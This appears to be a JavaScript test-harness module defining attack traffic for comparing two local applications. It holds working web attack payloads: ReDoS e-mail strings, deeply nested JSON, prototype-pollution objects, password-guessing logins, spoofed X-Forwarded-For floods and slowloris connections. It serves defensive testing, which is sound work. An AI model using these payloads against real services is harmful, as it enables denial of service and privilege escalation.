// What attack.mjs sends: the kinds of attack, how often each of them is made, and from where. Every request is a function
// of its number, so that both applications get the same ones. Addresses are those of X-Forwarded-For, which the
// applications believe: attackers have 198.18.0.0/15, which RFC 2544 keeps for measuring.
import { PASSWORD, userName } from './applications/notes.mjs';

const DEPTH = 1_000_000;
/** As deep as fits into 9,000 bytes. */
const SHALLOWER = 4400;
const BOTS = 100;
const HAMMERS = 10;
const KEYS = 102_000;

/**
 * @typedef {object} Kind
 * @property {string} title
 * @property {number} perSecond
 * @property {number} mostUnderWay  more are not sent, but counted
 * @property {(number: number) => { method: string, path: string, headers: Record<string, string>, body?: any }} make
 */

/** @type {Record<string, Kind>} */
export const REQUESTS = {
  redos: {
    title: 'e-mail addresses that take a backtracking engine some minutes',
    perSecond: 5,
    mostUnderWay: 20,
    make: (number) => json(number, '/subscribe', JSON.stringify({ mail: `a@a.${'a'.repeat(64 + (number % 8))}!` })),
  },
  depth: {
    title: 'JSON 1,000,000 arrays deep: with a length, without one, and 4,400 deep in 9 kB',
    perSecond: 2,
    mostUnderWay: 8,
    make(number) {
      if (number % 3 === 0) return json(number, '/subscribe', DEEP);
      // An iterable has no length, and is sent in chunks.
      if (number % 3 === 1) return json(number, '/subscribe', pieces());
      return json(number, '/subscribe', nested(SHALLOWER));
    },
  },
  pollution: {
    title: 'merges of `__proto__` and `constructor.prototype`',
    perSecond: 20,
    mostUnderWay: 40,
    make(number) {
      const options = POLLUTIONS[number % POLLUTIONS.length];
      return json(number, '/subscribe', `{"mail":"mallory@example.org","options":${options}}`);
    },
  },
  logins: {
    title: 'log-ins with wrong passwords, from 100 addresses, to accounts that exist',
    perSecond: 50,
    mostUnderWay: 500,
    make(number) {
      const body = JSON.stringify({ name: userName(number % 40), password: `${PASSWORD}${number}` });
      return json(number % BOTS, '/login', body);
    },
  },
  flood: {
    title: 'requests from 102,000 addresses',
    perSecond: 1700,
    mostUnderWay: 128,
    make: (number) => ({ method: 'GET', path: '/notes', headers: { 'x-forwarded-for': address(1000 + (number % KEYS)) } }),
  },
  hammer: {
    title: 'requests from 10 addresses',
    perSecond: 300,
    mostUnderWay: 128,
    make: (number) => ({ method: 'GET', path: '/notes', headers: { 'x-forwarded-for': address(number % HAMMERS) } }),
  },
};

/** Connections that say something once a second and never end: half of them in their headers, half in their body. */
export const SLOW = {
  title: 'connections that send a line of a header or a byte of a body a second',
  sockets: 200,
  everyMs: 1000,
  start: (number) =>
    number % 2 === 0
      ? `GET /notes HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Forwarded-For: ${address(500 + number)}\r\n`
      : 'POST /subscribe HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\nContent-Length: 1000\r\n' +
        `X-Forwarded-For: ${address(500 + number)}\r\n\r\n{`,
  more: (number) => (number % 2 === 0 ? 'X-Slow: loris\r\n' : ' '),
};

/** All there is, in the order of the tables. */
export const KINDS = Object.freeze([...Object.keys(REQUESTS), 'slow']);

/** 198.18.0.0/15 has 131,072. */
function address(index) {
  return `198.${18 + (index >> 16)}.${(index >> 8) & 255}.${index & 255}`;
}

function json(number, path, body) {
  const headers = { 'content-type': 'application/json', 'x-forwarded-for': address(number % BOTS) };
  return { method: 'POST', path, headers, body };
}

function nested(depth) {
  return `{"mail":"mallory@example.org","options":{"a":${'['.repeat(depth)}${']'.repeat(depth)}}}`;
}

const DEEP = Buffer.from(nested(DEPTH));
const PIECE = 65_536;

async function* pieces() {
  for (let at = 0; at < DEEP.length; at += PIECE) yield DEEP.subarray(at, at + PIECE);
}

const POLLUTIONS = [
  '{"__proto__":{"admin":true}}',
  '{"constructor":{"prototype":{"admin":true}}}',
  '{"\\u005f_proto__":{"admin":true}}',
  '{"topics":{"__proto__":{"admin":true}}}',
  '{"topics":{"constructor":{"prototype":{"frequency":"daily"}}}}',
];
